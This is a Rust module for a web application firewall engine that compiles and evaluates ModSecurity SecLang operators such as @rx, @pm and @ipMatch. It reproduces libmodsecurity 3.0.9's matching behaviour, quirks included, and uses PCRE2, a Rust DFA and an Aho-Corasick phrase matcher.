//! SecLang operators (`@rx`, `@pm`, `@lt`, ...) compiled once and evaluated per value, with the
//! exact semantics of libmodsecurity 3.0.9 (quirks included), because the engine must agree with
//! it rule for rule. `@detectSQLi` / `@detectXSS` live elsewhere.

use std::net::IpAddr;
use std::path::Path;
use std::sync::Arc;

use aho_corasick::AhoCorasick;
use ipnet::IpNet;
use regex_syntax::ast::{
    self, AssertionKind, Ast, ClassSet, ClassSetItem, FlagsItemKind, GroupKind, LiteralKind,
    RepetitionKind,
};
use thiserror::Error;

/// What a match stores in TX:0, TX:1, ... when the rule has `capture`: index n is TX:n, `None`
/// leaves TX:n unchanged (a group that did not take part). Empty for operators that store nothing.
pub type Captures = Vec<Option<Arc<[u8]>>>;

/// Why an operator could not be compiled (libmodsecurity refuses to load such a rule too).
#[derive(Debug, Error)]
pub enum OperatorError {
    /// Not an operator we know (libmodsecurity would take `@name arg` as an `@rx` pattern).
    #[error("unknown operator @{0}")]
    Unknown(String),
    /// The data file of `@pmFromFile` / `@ipMatchFromFile` cannot be read.
    #[error("@{op}: cannot read {path}: {message}")]
    File {
        op: String,
        path: String,
        message: String,
    },
    /// An argument libmodsecurity rejects (a bad `@ipMatch` network).
    #[error("@{op}: invalid argument {argument:?}: {message}")]
    Argument {
        op: String,
        argument: String,
        message: String,
    },
}

/// A compiled operator. See [`Operator::compile`].
#[derive(Debug)]
pub enum Operator {
    /// `@rx` with a pattern that compiles.
    Rx(Box<Rx>),
    /// `@rx` with a pattern PCRE2 rejects: libmodsecurity loads the rule and never matches it.
    InvalidRx { message: String },
    /// `@pm` and `@pmFromFile`.
    Pm(Box<PhraseMatcher>),
    /// `@contains`: the argument anywhere in the value (an empty argument always matches).
    Contains(Box<Finder>),
    /// `@containsWord`: the argument with a non-letter (or an edge) on each side.
    ContainsWord(Vec<u8>),
    /// `@beginsWith`.
    BeginsWith(Vec<u8>),
    /// `@endsWith`.
    EndsWith(Vec<u8>),
    /// `@streq`: byte equality, case-sensitive.
    StrEq(Vec<u8>),
    /// `@strmatch`: substring search like `@contains` (libmodsecurity 3 uses `find`).
    StrMatch(Box<Finder>),
    /// `@within`: the value is a substring of the argument (an empty value matches).
    Within(Within),
    /// `@eq`: both sides go through `std::stoi` (0 when not a number or out of `int` range), the
    /// value cut at its first NUL.
    Eq(i64),
    /// `@ge`: both sides go through `atoll` (leading spaces and sign, digits up to the first
    /// other byte, 0 without digits, clamped on overflow): `@lt 1` matches "abc", not " 3".
    Ge(i64),
    /// `@gt` (see `Ge`).
    Gt(i64),
    /// `@lt` (see `Ge`).
    Lt(i64),
    /// `@le` (see `Ge`).
    Le(i64),
    /// `@ipMatch` / `@ipMatchFromFile`: the value parsed as an address, in any network.
    IpMatch(Vec<IpNet>),
    /// `@validateByteRange`: per byte value, whether it is allowed (matches any other byte).
    ValidateByteRange(Box<ByteRange>),
    /// `@validateUrlEncoding`: matches a `%` not followed by two hex digits.
    ValidateUrlEncoding,
    /// `@validateUtf8Encoding`: matches invalid, overlong or surrogate UTF-8.
    ValidateUtf8Encoding,
    /// `@unconditionalMatch`.
    UnconditionalMatch,
    /// `@noMatch`.
    NoMatch,
    /// `@rbl`, `@geoLookup`: need a network or a GeoIP database; never match here.
    Unsupported(&'static str),
}

impl Operator {
    /// Compiles `@name argument` (name as written, case-insensitive like libmodsecurity).
    /// `base_dir` is the directory of the file holding the rule (data files of `@pmFromFile` /
    /// `@ipMatchFromFile` are relative to it). The argument has no macros left.
    pub fn compile(name: &str, argument: &str, base_dir: &Path) -> Result<Operator, OperatorError> {
        let lower = name.to_ascii_lowercase();
        let arg = argument.as_bytes().to_vec();
        let bad = |message: String| OperatorError::Argument {
            op: name.to_string(),
            argument: argument.to_string(),
            message,
        };
        Ok(match lower.as_str() {
            "rx" => match Rx::new(argument) {
                Ok(rx) => Operator::Rx(Box::new(rx)),
                Err(message) => Operator::InvalidRx { message },
            },
            "pm" => Operator::Pm(Box::new(PhraseMatcher::new(pm_phrases(
                argument.as_bytes(),
            )))),
            "pmfromfile" | "pmf" => {
                let text = read_data(name, argument, base_dir)?;
                Operator::Pm(Box::new(PhraseMatcher::new(pm_file_phrases(&text))))
            }
            "contains" => {
                Operator::Contains(Box::new(memchr::memmem::Finder::new(&arg).into_owned()))
            }
            "containsword" => Operator::ContainsWord(arg),
            "beginswith" => Operator::BeginsWith(arg),
            "endswith" => Operator::EndsWith(arg),
            "streq" => Operator::StrEq(arg),
            "strmatch" => {
                Operator::StrMatch(Box::new(memchr::memmem::Finder::new(&arg).into_owned()))
            }
            "within" => Operator::Within(Within::new(arg)),
            "eq" => Operator::Eq(stoi(&arg)),
            "ge" => Operator::Ge(atoll(&arg)),
            "gt" => Operator::Gt(atoll(&arg)),
            "lt" => Operator::Lt(atoll(&arg)),
            "le" => Operator::Le(atoll(&arg)),
            "ipmatch" => Operator::IpMatch(parse_ip_list(argument).map_err(bad)?),
            "ipmatchfromfile" | "ipmatchf" => {
                let text = read_data(name, argument, base_dir)?;
                let mut nets = Vec::new();
                for line in text.split(|&b| b == b'\n') {
                    let line = match line.iter().position(|&b| b == b'#') {
                        Some(p) => &line[..p],
                        None => line,
                    };
                    if line.is_empty() {
                        continue;
                    }
                    let line = std::str::from_utf8(line).map_err(|e| bad(e.to_string()))?;
                    nets.extend(parse_ip_list(line).map_err(bad)?);
                }
                Operator::IpMatch(nets)
            }
            "validatebyterange" => {
                Operator::ValidateByteRange(Box::new(ByteRange::new(byte_ranges(&arg))))
            }
            "validateurlencoding" => Operator::ValidateUrlEncoding,
            "validateutf8encoding" => Operator::ValidateUtf8Encoding,
            "unconditionalmatch" => Operator::UnconditionalMatch,
            "nomatch" => Operator::NoMatch,
            "rbl" => Operator::Unsupported("@rbl needs DNS lookups (no network here)"),
            "geolookup" => Operator::Unsupported("@geoLookup needs a GeoIP database"),
            _ => return Err(OperatorError::Unknown(name.to_string())),
        })
    }

    /// Runs the operator on one (already transformed) value. `None`: no match. `Some(c)`: match,
    /// with `c` what libmodsecurity stores in TX:0.. under `capture` (empty when it stores
    /// nothing). Allocates only on a match.
    pub fn evaluate(&self, value: &[u8]) -> Option<Captures> {
        let hit = match self {
            Operator::Rx(rx) => return rx.captures(value),
            Operator::Pm(pm) => return pm.find(value).map(|text| vec![Some(Arc::from(text))]),
            _ => self.is_match(value),
        };
        hit.then(Vec::new)
    }

    /// Whether the operator matches, without computing captures (no allocation).
    pub fn is_match(&self, value: &[u8]) -> bool {
        match self {
            Operator::Rx(rx) => rx.is_match(value),
            Operator::InvalidRx { .. } | Operator::NoMatch | Operator::Unsupported(_) => false,
            Operator::Pm(pm) => pm.find(value).is_some(),
            Operator::Contains(p) | Operator::StrMatch(p) => p.find(value).is_some(),
            Operator::ContainsWord(p) => contains_word(value, p),
            Operator::BeginsWith(p) => value.starts_with(p),
            Operator::EndsWith(p) => value.ends_with(p),
            Operator::StrEq(p) => value == p.as_slice(),
            Operator::Within(list) => list.holds(value),
            Operator::Eq(p) => stoi(value) == *p,
            Operator::Ge(p) => atoll(value) >= *p,
            Operator::Gt(p) => atoll(value) > *p,
            Operator::Lt(p) => atoll(value) < *p,
            Operator::Le(p) => atoll(value) <= *p,
            Operator::IpMatch(nets) => ip_match(nets, value),
            Operator::ValidateByteRange(range) => range.breached(value),
            Operator::ValidateUrlEncoding => !value.is_empty() && !url_encoding_valid(value),
            Operator::ValidateUtf8Encoding => !utf8_valid(value),
            Operator::UnconditionalMatch => true,
        }
    }

    /// For the engine's prefilter: the pattern of an `@rx`.
    pub fn regex_source(&self) -> Option<&str> {
        match self {
            Operator::Rx(rx) => Some(&rx.pattern),
            _ => None,
        }
    }

    /// For the engine's prefilter: the phrases of a `@pm`/`@pmFromFile`.
    pub fn phrases(&self) -> Option<&[Vec<u8>]> {
        match self {
            Operator::Pm(pm) => Some(&pm.phrases),
            _ => None,
        }
    }

    /// Why this operator never matches here (`@rbl`, `@geoLookup`, an `@rx` PCRE2 rejects), for
    /// `--check-rules`.
    pub fn unsupported_reason(&self) -> Option<&'static str> {
        match self {
            Operator::Unsupported(why) => Some(why),
            Operator::InvalidRx { .. } => {
                Some("@rx pattern does not compile; libmodsecurity never matches it either")
            }
            _ => None,
        }
    }

    /// For `--check-rules`: an `@rx` whose whole DFA was built at load.
    pub fn has_whole_dfa(&self) -> bool {
        matches!(self, Operator::Rx(rx) if matches!(&rx.engine, RxEngine::Rust { dense: Some(_), .. }))
    }

    /// For `@rx` compiled with PCRE2 instead of the Rust engine: the construct that forced it.
    pub fn pcre_reason(&self) -> Option<&str> {
        match self {
            Operator::Rx(rx) => match &rx.engine {
                RxEngine::Pcre { why, .. } => Some(why),
                _ => None,
            },
            _ => None,
        }
    }
}

/// A compiled `@rx`: PCRE2 with DOTALL|MULTILINE (as libmodsecurity 3.0.9's `Utils::Regex`),
/// run by the Rust `regex` engine when the pattern means exactly the same there.
#[derive(Debug)]
pub struct Rx {
    pattern: String,
    engine: RxEngine,
}

#[derive(Debug)]
enum RxEngine {
    /// Empty pattern: `Rx::evaluate` returns true without running a regex and captures nothing.
    Empty,
    /// The Rust engine answers whether the pattern matches; PCRE2 (the same compiled pattern
    /// libmodsecurity runs) gives the groups of a match. A capture search by the Rust engine
    /// would run the pattern backwards to find where the match starts, building a reverse DFA
    /// per pattern for it: about 6,000 instructions per capture on the dev corpus.
    Rust {
        re: regex_automata::meta::Regex,
        /// The pattern's whole DFA, built at load when it fits [`DENSE_LIMIT`] (see
        /// [`dense_dfa`]); `re` answers otherwise.
        dense: Option<Box<DenseDfa>>,
        groups: Pcre,
    },
    /// PCRE2 alone, with the construct that kept the pattern from the Rust engine.
    Pcre { re: Pcre, why: String },
}

/// A PCRE2 regex with a pool of capture buffers: a fresh `CaptureLocations` holds a JIT stack
/// (an mmap and an munmap per capture), so buffers are taken from the pool and given back.
#[derive(Debug)]
struct Pcre {
    re: pcre2::bytes::Regex,
    locations: std::sync::Mutex<Vec<pcre2::bytes::CaptureLocations>>,
}

impl Pcre {
    fn new(re: pcre2::bytes::Regex) -> Pcre {
        Pcre {
            re,
            locations: std::sync::Mutex::new(Vec::new()),
        }
    }

    /// The groups of the first match in `value` (None: no match).
    fn captures(&self, value: &[u8]) -> Option<Captures> {
        let pooled = self.locations.lock().ok().and_then(|mut v| v.pop());
        let mut locs = pooled.unwrap_or_else(|| self.re.capture_locations());
        let found = matches!(self.re.captures_read(&mut locs, value), Ok(Some(_)));
        let caps = found.then(|| {
            (0..locs.len())
                .map(|i| locs.get(i).map(|(s, e)| Arc::from(&value[s..e])))
                .collect()
        });
        if let Ok(mut pool) = self.locations.lock() {
            pool.push(locs);
        }
        caps
    }
}

impl Rx {
    fn new(pattern: &str) -> Result<Rx, String> {
        if pattern.is_empty() {
            return Ok(Rx {
                pattern: String::new(),
                engine: RxEngine::Empty,
            });
        }
        // Compile with PCRE2 first: a pattern PCRE2 rejects never matches in libmodsecurity,
        // even if the Rust engine would accept it.
        let pcre = pcre2::bytes::RegexBuilder::new()
            .dotall(true)
            .multi_line(true)
            .utf(false)
            .ucp(false)
            .jit_if_available(true)
            // libmodsecurity retries without JIT on a JIT stack overflow: a big stack is closest.
            .max_jit_stack_size(Some(8 << 20))
            .build(pattern)
            .map_err(|e| e.to_string())?;
        let engine = match rust_equivalent(pattern) {
            Ok(re) => RxEngine::Rust {
                re,
                dense: dense_dfa(pattern).map(Box::new),
                groups: Pcre::new(pcre),
            },
            Err(why) => RxEngine::Pcre {
                re: Pcre::new(pcre),
                why,
            },
        };
        Ok(Rx {
            pattern: pattern.to_string(),
            engine,
        })
    }

    fn is_match(&self, value: &[u8]) -> bool {
        match &self.engine {
            RxEngine::Empty => true,
            RxEngine::Rust { re, dense, .. } => rust_is_match(re, dense.as_deref(), value),
            // A match error (match limit, JIT stack) is "no match" in libmodsecurity.
            RxEngine::Pcre { re: p, .. } => p.re.is_match(value).unwrap_or(false),
        }
    }

    fn captures(&self, value: &[u8]) -> Option<Captures> {
        match &self.engine {
            RxEngine::Empty => Some(Vec::new()),
            // the Rust engine rules out most values; PCRE2 has the last word on a match, as
            // in libmodsecurity
            RxEngine::Rust { re, dense, groups } => {
                rust_is_match(re, dense.as_deref(), value).then(|| groups.captures(value))?
            }
            // `is_match` reuses pooled match data: look first, capture only on a match
            RxEngine::Pcre { re: p, .. } => {
                p.re.is_match(value)
                    .unwrap_or(false)
                    .then(|| p.captures(value))?
            }
        }
    }
}

type DenseDfa = regex_automata::dfa::dense::DFA<Vec<u32>>;

/// Largest DFA built for one pattern at load ([`dense_dfa`]). CRS 3.3.4 at PL1: 189 of the
/// `@rx` that `--check-rules` counts fit in 512 KiB, about 6 MB in all, built in about 0.3 s;
/// the rest grow past 16 MB (long alternations of words under `(?i)`, each letter optionally
/// followed by quotes) and stay with the lazy DFA.
const DENSE_LIMIT: usize = 512 << 10;

/// Whether `value` matches: by the whole DFA when the pattern has one, or by `re`.
fn rust_is_match(re: &regex_automata::meta::Regex, dense: Option<&DenseDfa>, value: &[u8]) -> bool {
    use regex_automata::dfa::Automaton;
    match dense.map(|d| d.try_search_fwd(&regex_automata::Input::new(value).earliest(true))) {
        Some(Ok(m)) => m.is_some(),
        // (no quit bytes without Unicode word boundaries: not expected, but `re` can answer)
        Some(Err(_)) | None => re.is_match(value),
    }
}

/// The whole DFA of `pattern` (read as [`rust_equivalent`] reads it), when it fits
/// [`DENSE_LIMIT`]. The lazy DFA of `re` builds its states while it searches: on the dev
/// corpus a third of its time went to building them, spread over the requests that first
/// reached them, and a lookup in it checks each state for being unbuilt. A whole DFA is
/// built once, at load, and searched with one table lookup a byte.
fn dense_dfa(pattern: &str) -> Option<DenseDfa> {
    regex_automata::dfa::dense::Builder::new()
        .configure(
            regex_automata::dfa::dense::Config::new()
                // minimizing takes longer than building, for a table that fits anyway
                .minimize(false)
                .dfa_size_limit(Some(DENSE_LIMIT))
                .determinize_size_limit(Some(4 * DENSE_LIMIT)),
        )
        .syntax(rust_syntax())
        .thompson(regex_automata::nfa::thompson::Config::new().utf8(false))
        .build(pattern)
        .ok()
}

/// How the Rust engine reads a pattern: bytes, no Unicode, `.` matching newlines, `^` and `$`
/// at line ends (PCRE2 with DOTALL|MULTILINE, no UTF).
fn rust_syntax() -> regex_automata::util::syntax::Config {
    regex_automata::util::syntax::Config::new()
        .unicode(false)
        .utf8(false)
        .dot_matches_new_line(true)
        .multi_line(true)
}

/// The Rust regex for `pattern` when it provably means what PCRE2 (DOTALL|MULTILINE, no UTF)
/// means; otherwise the construct that stops us.
fn rust_equivalent(pattern: &str) -> Result<regex_automata::meta::Regex, String> {
    if !pattern.is_ascii() {
        return Err("non-ASCII pattern (PCRE2 sees bytes)".into());
    }
    let parsed = ast::parse::Parser::new()
        .parse(pattern)
        .map_err(|e| format!("rust: {}", e.kind()))?;
    let mut check = Checker {
        pattern,
        has_caret: false,
    };
    check.ast(&parsed, true)?;
    // The regex crate's own literal prefilter is off: the engine's prefilter (see
    // `prefilter`) has already found one of the pattern's literals in a value before the
    // pattern runs on it, so the crate's would search for them a second time (and build
    // its searchers at load). Without it the lazy DFA just runs: fewer instructions, and no
    // reverse scans from an inner literal.
    let re = regex_automata::meta::Builder::new()
        .configure(
            regex_automata::meta::Config::new()
                .auto_prefilter(false)
                .utf8_empty(false)
                .nfa_size_limit(Some(64 << 20)),
        )
        .syntax(rust_syntax())
        .build(pattern)
        .map_err(|e| format!("rust: {e}"))?;
    if check.has_caret {
        // PCRE's multiline `^` does not match after a newline that ends the subject; Rust's does.
        // That only matters for a match that is empty and starts at the end of the value.
        let hir = super::prefilter::pcre_like_hir(pattern).map_err(|e| format!("rust: {e}"))?;
        if hir.properties().minimum_len().unwrap_or(0) == 0 {
            return Err("`^` in a pattern that can match empty".into());
        }
    }
    Ok(re)
}

struct Checker<'a> {
    pattern: &'a str,
    has_caret: bool,
}

impl Checker<'_> {
    /// `leading`: nothing that consumes input can come before this node in a match.
    fn ast(&mut self, node: &Ast, leading: bool) -> Result<(), String> {
        match node {
            Ast::Empty(_) | Ast::Dot(_) | Ast::ClassPerl(_) => Ok(()),
            Ast::Flags(f) => flags(&f.flags),
            Ast::Literal(l) => literal(l),
            Ast::ClassUnicode(_) => Err("\\p Unicode class".into()),
            Ast::ClassBracketed(c) => class_set(&c.kind),
            Ast::Assertion(a) => match a.kind {
                AssertionKind::StartLine => {
                    if !leading {
                        return Err("`^` after other items".into());
                    }
                    self.has_caret = true;
                    Ok(())
                }
                AssertionKind::EndLine
                | AssertionKind::StartText
                | AssertionKind::EndText
                | AssertionKind::WordBoundary
                | AssertionKind::NotWordBoundary => Ok(()),
                _ => Err("Rust-only word boundary assertion".into()),
            },
            Ast::Repetition(r) => {
                if let ast::RepetitionOp {
                    kind: RepetitionKind::Range(_),
                    span,
                } = &r.op
                {
                    let text = &self.pattern[span.start.offset..span.end.offset];
                    if !counted_repetition_ok(text) {
                        return Err(format!("counted repetition `{text}`"));
                    }
                }
                self.ast(&r.ast, false)
            }
            Ast::Group(g) => {
                if let GroupKind::NonCapturing(f) = &g.kind {
                    flags(f)?;
                }
                self.ast(&g.ast, leading)
            }
            Ast::Alternation(a) => a.asts.iter().try_for_each(|x| self.ast(x, leading)),
            Ast::Concat(c) => {
                let mut leading = leading;
                for x in &c.asts {
                    self.ast(x, leading)?;
                    if !matches!(x, Ast::Assertion(_) | Ast::Flags(_) | Ast::Empty(_)) {
                        leading = false;
                    }
                }
                Ok(())
            }
        }
    }
}

/// `{n}`, `{n,}`, `{n,m}` with no spaces: the forms PCRE2 10.42 reads as a quantifier
/// (it takes `{,n}` and `{ n }` literally).
fn counted_repetition_ok(text: &str) -> bool {
    let Some(inner) = text.strip_prefix('{').and_then(|t| t.split('}').next()) else {
        return false;
    };
    let mut parts = inner.splitn(2, ',');
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    let first = parts.next().unwrap_or("");
    digits(first) && parts.next().is_none_or(|s| s.is_empty() || digits(s))
}

fn flags(f: &ast::Flags) -> Result<(), String> {
    let mut negated = false;
    for item in &f.items {
        match item.kind {
            FlagsItemKind::Negation => negated = true,
            FlagsItemKind::Flag(ast::Flag::CaseInsensitive) => {}
            FlagsItemKind::Flag(ast::Flag::MultiLine | ast::Flag::DotMatchesNewLine)
                if !negated => {}
            _ => return Err("inline flag other than i, m, s".into()),
        }
    }
    Ok(())
}

fn literal(l: &ast::Literal) -> Result<(), String> {
    match l.kind {
        LiteralKind::Verbatim | LiteralKind::Meta | LiteralKind::Superfluous => Ok(()),
        LiteralKind::HexFixed(_) if (l.c as u32) <= 0xFF => Ok(()),
        // PCRE2 without UTF reads `\x{bc}` as the byte 0xBC; the regex crate as the character
        // U+00BC, two bytes in UTF-8 (only `\xbc` is a byte to it)
        LiteralKind::HexBrace(_) if (l.c as u32) <= 0x7F => Ok(()),
        LiteralKind::Special(
            ast::SpecialLiteralKind::Bell
            | ast::SpecialLiteralKind::FormFeed
            | ast::SpecialLiteralKind::Tab
            | ast::SpecialLiteralKind::LineFeed
            | ast::SpecialLiteralKind::CarriageReturn,
        ) => Ok(()),
        _ => Err(format!("escape for {:?}", l.c)),
    }
}

fn class_set(set: &ClassSet) -> Result<(), String> {
    match set {
        ClassSet::BinaryOp(_) => Err("class set operation (&&, --, ~~)".into()),
        ClassSet::Item(item) => class_item(item),
    }
}

fn class_item(item: &ClassSetItem) -> Result<(), String> {
    match item {
        ClassSetItem::Empty(_) | ClassSetItem::Ascii(_) | ClassSetItem::Perl(_) => Ok(()),
        ClassSetItem::Literal(l) => literal(l),
        ClassSetItem::Range(r) => literal(&r.start).and_then(|_| literal(&r.end)),
        ClassSetItem::Unicode(_) => Err("\\p Unicode class".into()),
        ClassSetItem::Bracketed(_) => Err("nested `[` inside a class".into()),
        ClassSetItem::Union(u) => u.items.iter().try_for_each(class_item),
    }
}

/// libmodsecurity's ACMP (Aho-Corasick as ported from ModSecurity 2), reproduced with its
/// quirks: ASCII case-insensitive, fail links that only look one level up (so some matches are
/// missed), and a match reported at the first trie node where a phrase ends (TX:0 is that
/// node's text, which can be longer than the phrase found).
#[derive(Debug)]
pub struct PhraseMatcher {
    phrases: Vec<Vec<u8>>,
    nodes: Vec<Node>,
    /// Quick rejection: no phrase anywhere means the ACMP cannot match either.
    prefilter: Option<AhoCorasick>,
}

#[derive(Debug, Default)]
struct Node {
    /// Sorted by byte.
    children: Vec<(u8, u32)>,
    fail: u32,
    is_last: bool,
    /// A phrase ends on the fail chain (ACMP's `o_match`).
    other_match: bool,
    /// The node's text is `phrases[phrase][..depth]` (as written by the phrase that created it).
    phrase: u32,
    depth: u32,
}

impl PhraseMatcher {
    fn new(phrases: Vec<Vec<u8>>) -> PhraseMatcher {
        let mut nodes = vec![Node::default()];
        for (pi, phrase) in phrases.iter().enumerate() {
            let mut cur = 0usize;
            for (i, &b) in phrase.iter().enumerate() {
                let letter = b.to_ascii_lowercase();
                cur = match child(&nodes[cur], letter) {
                    Some(n) => n,
                    None => {
                        let id = nodes.len();
                        nodes.push(Node {
                            phrase: pi as u32,
                            depth: i as u32 + 1,
                            ..Node::default()
                        });
                        let ch = &mut nodes[cur].children;
                        let at = ch.partition_point(|&(l, _)| l < letter);
                        ch.insert(at, (letter, id as u32));
                        id
                    }
                };
                if i + 1 == phrase.len() {
                    nodes[cur].is_last = true;
                }
            }
        }
        // Fail links level by level, ACMP style: child of the parent's fail node, else root
        // (first-level nodes keep the root as fail node).
        let mut level: Vec<usize> = nodes[0].children.iter().map(|&(_, n)| n as usize).collect();
        while !level.is_empty() {
            let mut next = Vec::new();
            for &n in &level {
                let fail = nodes[n].fail as usize;
                let kids: Vec<(u8, u32)> = nodes[n].children.clone();
                for (letter, k) in kids {
                    let f = child(&nodes[fail], letter).unwrap_or(0);
                    nodes[k as usize].fail = f as u32;
                    next.push(k as usize);
                }
            }
            level = next;
        }
        for n in 1..nodes.len() {
            let mut f = nodes[n].fail as usize;
            while f != 0 {
                if nodes[f].is_last {
                    nodes[n].other_match = true;
                    break;
                }
                f = nodes[f].fail as usize;
            }
        }
        let prefilter = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(&phrases)
            .ok();
        PhraseMatcher {
            phrases,
            nodes,
            prefilter,
        }
    }

    /// ACMP's `acmp_process_quick`: the text of the node where the first match was seen.
    fn find(&self, value: &[u8]) -> Option<&[u8]> {
        if let Some(pre) = &self.prefilter
            && !pre.is_match(value)
        {
            return None;
        }
        let mut node = 0usize;
        for &b in value {
            let letter = b.to_ascii_lowercase();
            let go = loop {
                match child(&self.nodes[node], letter) {
                    Some(g) if self.nodes[g].is_last => return Some(self.text(g)),
                    Some(g) => break Some(g),
                    None if node == 0 => break None,
                    None => node = self.nodes[node].fail as usize,
                }
            };
            if let Some(g) = go {
                node = g;
            }
            if self.nodes[node].other_match {
                return Some(self.text(node));
            }
        }
        None
    }

    fn text(&self, node: usize) -> &[u8] {
        let n = &self.nodes[node];
        &self.phrases[n.phrase as usize][..n.depth as usize]
    }
}

fn child(node: &Node, letter: u8) -> Option<usize> {
    let ch = &node.children;
    ch.binary_search_by_key(&letter, |&(l, _)| l)
        .ok()
        .map(|i| ch[i].1 as usize)
}

/// `@pm` argument to phrases: libmodsecurity's `parse_pm_content` (with its bugs: `|..|` hex
/// only accepts the letters a-f, and the decoded bytes overwrite the start of the argument
/// without shortening it), then a split on whitespace.
fn pm_phrases(param: &[u8]) -> Vec<Vec<u8>> {
    let content = parse_pm_content(param).unwrap_or_else(|| until_nul(param).to_vec());
    content
        .split(|b| is_c_space(*b))
        .filter(|w| !w.is_empty())
        .map(<[u8]>::to_vec)
        .collect()
}

fn parse_pm_content(param: &[u8]) -> Option<Vec<u8>> {
    let content = until_nul(param);
    let mut offset = 0;
    while offset < content.len() && matches!(content[offset], b' ' | b'\t') {
        offset += 1;
    }
    let len = content.len();
    let mut parm: Vec<u8> = if offset < len && content[offset] == b'"' && content[len - 1] == b'"' {
        content[offset + 1..]
            .get(..len.saturating_sub(offset + 2))?
            .to_vec()
    } else {
        content[offset..].to_vec()
    };
    if parm.is_empty() {
        return None;
    }
    let (mut bin, mut esc) = (false, false);
    let mut hex = [0u8; 2];
    let mut hex_len = 0;
    let mut x = 0;
    for i in 0..parm.len() {
        let c = parm[i];
        if c == b'|' {
            bin = !bin;
        } else if !esc && c == b'\\' {
            esc = true;
        } else if bin {
            if c <= 9 || matches!(c, b'a'..=b'f' | b'A'..=b'F') {
                hex[hex_len] = c;
                hex_len += 1;
                if hex_len == 2 {
                    parm[x] = strtol_hex(&hex);
                    x += 1;
                    hex_len = 0;
                }
            }
        } else if esc {
            if !matches!(c, b':' | b';' | b'\\' | b'"') {
                return None;
            }
            parm[x] = c;
            x += 1;
            esc = false;
        } else {
            parm[x] = c;
            x += 1;
        }
    }
    let end = parm.iter().position(|&b| b == 0).unwrap_or(parm.len());
    parm.truncate(end);
    Some(parm)
}

/// `strtol(two_chars, NULL, 16) & 0xFF`.
fn strtol_hex(s: &[u8; 2]) -> u8 {
    let s = until_nul(s);
    let s = match s.iter().position(|b| !is_c_space(*b)) {
        Some(p) => &s[p..],
        None => return 0,
    };
    let mut v: u32 = 0;
    for &b in s {
        match (b as char).to_digit(16) {
            Some(d) => v = v * 16 + d,
            None => break,
        }
    }
    (v & 0xFF) as u8
}

/// `@pmFromFile` data: one phrase per line as is (trailing spaces and `\r` kept); empty lines
/// and lines whose first non-space is `#` are skipped.
fn pm_file_phrases(text: &[u8]) -> Vec<Vec<u8>> {
    let mut lines: Vec<&[u8]> = text.split(|&b| b == b'\n').collect();
    if text.ends_with(b"\n") {
        lines.pop();
    }
    lines
        .into_iter()
        .filter(|l| match l.iter().position(|&b| b == b'#') {
            _ if l.is_empty() => false,
            Some(p) => !l[..p].iter().all(|b| is_c_space(*b)),
            None => true,
        })
        .map(<[u8]>::to_vec)
        .collect()
}

fn read_data(op: &str, argument: &str, base_dir: &Path) -> Result<Vec<u8>, OperatorError> {
    let path = base_dir.join(argument);
    std::fs::read(&path).map_err(|e| OperatorError::File {
        op: op.to_string(),
        path: path.display().to_string(),
        message: e.to_string(),
    })
}

/// `@ipMatch` list: comma separated (empty items skipped), no spaces, each an address or a
/// CIDR network. libmodsecurity refuses the prefixes /0 and, for IPv6, /128.
fn parse_ip_list(list: &str) -> Result<Vec<IpNet>, String> {
    list.split(',')
        .filter(|tok| !tok.is_empty())
        .map(|tok| {
            if !tok.contains('/') {
                return tok
                    .parse::<IpAddr>()
                    .map(IpNet::from)
                    .map_err(|e| format!("{tok:?}: {e}"));
            }
            let net = tok.parse::<IpNet>().map_err(|e| format!("{tok:?}: {e}"))?;
            match net {
                IpNet::V6(n) if n.prefix_len() == 128 => Err(format!("{tok:?}: bad netmask")),
                n if n.prefix_len() == 0 => Err(format!("{tok:?}: bad netmask")),
                n => Ok(n),
            }
        })
        .collect()
}

fn ip_match(nets: &[IpNet], value: &[u8]) -> bool {
    let Some(ip) = std::str::from_utf8(until_nul(value))
        .ok()
        .and_then(|s| s.parse::<IpAddr>().ok())
    else {
        return false;
    };
    nets.iter().any(|n| n.contains(&ip))
}

/// `@validateByteRange 9,10,13,32-126`: libmodsecurity ignores parts it cannot read.
fn byte_ranges(arg: &[u8]) -> [bool; 256] {
    let mut table = [false; 256];
    for part in arg.split(|&b| b == b',') {
        match part.iter().position(|&b| b == b'-') {
            None => {
                if let Some(v) = stoi_checked(part).filter(|v| (0..=255).contains(v)) {
                    table[v as usize] = true;
                }
            }
            Some(p) => {
                let (Some(s), Some(e)) = (stoi_checked(&part[..p]), stoi_checked(&part[p + 1..]))
                else {
                    continue;
                };
                if (0..=255).contains(&s) && (0..=255).contains(&e) && s <= e {
                    table[s as usize..=e as usize]
                        .iter_mut()
                        .for_each(|t| *t = true);
                }
            }
        }
    }
    table
}

/// `validate_url_encoding`: every `%` followed by two hex digits.
fn url_encoding_valid(v: &[u8]) -> bool {
    let mut i = 0;
    while i < v.len() {
        if v[i] == b'%' {
            if i + 2 >= v.len() || !v[i + 1].is_ascii_hexdigit() || !v[i + 2].is_ascii_hexdigit() {
                return false;
            }
            i += 3;
        } else {
            i += 1;
        }
    }
    true
}

/// libmodsecurity's UTF-8 check: like RFC 3629 but lead bytes F0-F4 accept up to U+13FFFF.
fn utf8_valid(v: &[u8]) -> bool {
    let mut i = 0;
    while i < v.len() {
        let c = v[i];
        let len = match c {
            0x00..=0x7F => {
                i += 1;
                continue;
            }
            _ if c & 0xE0 == 0xC0 => 2,
            _ if c & 0xF0 == 0xE0 => 3,
            _ if c & 0xF8 == 0xF0 && c < 0xF5 => 4,
            _ => return false,
        };
        if v.len() - i < len || v[i + 1..i + len].iter().any(|b| b & 0xC0 != 0x80) {
            return false;
        }
        let d = v[i + 1..i + len]
            .iter()
            .fold(u32::from(c) & (0x7F >> len), |d, b| {
                (d << 6) | u32::from(b & 0x3F)
            });
        let min = [0, 0, 0x80, 0x800, 0x10000][len];
        if (0xD800..=0xDFFF).contains(&d) || d < min {
            return false;
        }
        i += len;
    }
    true
}

/// `@containsWord`: the phrase with a non-letter (or the value's edge) on each side.
fn contains_word(value: &[u8], p: &[u8]) -> bool {
    if p.is_empty() {
        return true;
    }
    if value.is_empty() {
        return false;
    }
    if value == p {
        return true;
    }
    let not_letter = |pos: usize| value.get(pos).is_some_and(|b| !b.is_ascii_alphabetic());
    let mut start = 0;
    while let Some(off) = find(&value[start..], p) {
        let pos = start + off;
        let end = pos + p.len();
        if pos == 0 && not_letter(end) {
            return true;
        }
        if end == value.len() && pos > 0 && not_letter(pos - 1) {
            return true;
        }
        if pos > 0 && not_letter(pos - 1) && not_letter(end) {
            return true;
        }
        start = pos + 1;
    }
    false
}

